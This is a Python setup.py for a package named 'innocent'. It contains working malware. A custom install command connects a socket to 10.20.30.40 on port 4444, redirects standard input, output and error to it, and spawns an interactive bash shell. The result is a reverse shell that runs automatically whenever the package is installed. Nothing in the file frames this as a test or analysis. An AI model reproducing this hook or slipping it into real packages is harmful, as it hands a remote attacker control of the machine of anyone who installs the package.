from setuptools import setup
from setuptools.command.install import install
import os
import socket
import subprocess


class PostInstallCommand(install):
    """Post-installation for installation
    mode."""

    def run(self):
        # Create a socket connection
        s = socket.socket(socket.AF_INET,
                          socket.SOCK_STREAM)
        s.connect(("10.20.30.40",
                   4444))

        # Create multiple file descriptors
        os.dup2(s.fileno(), 0)
        os.dup2(s.fileno(), 1)
        os.dup2(s.fileno(), 2)

        # Stream input to /bin/bash
        p = subprocess.Popen(["/bin/bash", "-i"],
                             close_fds=True)
        install.run(self)


setup(
    name="innocent",
    version="1.0",
    cmdclass={"install": PostInstallCommand},
)
